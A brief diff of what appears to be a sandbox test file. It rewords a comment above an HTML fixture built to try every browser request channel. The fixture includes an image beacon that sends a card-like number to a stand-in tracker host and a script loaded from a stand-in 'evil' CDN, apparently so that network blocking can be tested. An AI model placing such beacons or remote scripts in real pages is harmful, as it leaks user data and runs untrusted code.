@@ -6,7 +6,7 @@ import { WebSocketServer } from 'ws';
 import { codeRows } from '../../helpers/sandboxes.ts';
 import { turn, useOperatorLab } from './operators.ts';
 
-/** A page that uses every browser feature that can send a request, and reports the results that it can see. */
+/** A page that uses every browser feature for sending requests, and reports the results that it can see. */
 const ATTEMPTS = `<!doctype html><title>attempts</title>
 <img src="http://tracker.test/pixel.png?d=4929123456789012">
 <script src="https://cdn.evil.test/x.js"></script>
